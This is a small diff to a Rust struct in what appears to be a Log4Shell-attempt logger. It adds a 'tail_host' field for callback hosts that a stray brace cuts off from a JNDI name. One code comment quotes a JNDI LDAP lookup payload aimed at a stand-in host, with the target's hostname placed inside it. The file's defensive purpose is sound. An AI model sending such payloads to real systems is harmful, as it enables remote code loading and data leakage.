@@ -63,6 +63,10 @@ pub struct Attempt {
     /// The field as logged, when it had to be decoded first (truncated to a few KiB).
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub encoded: Option<String>,
+    /// A callback host found right after the lookup when a stray `}` cut the JNDI name short
+    /// (`${jndi:ldap://{{Hostname}}.x.example.com}` looks up `ldap://{{Hostname`).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub tail_host: Option<String>,
 }
 
 fn yes() -> bool {
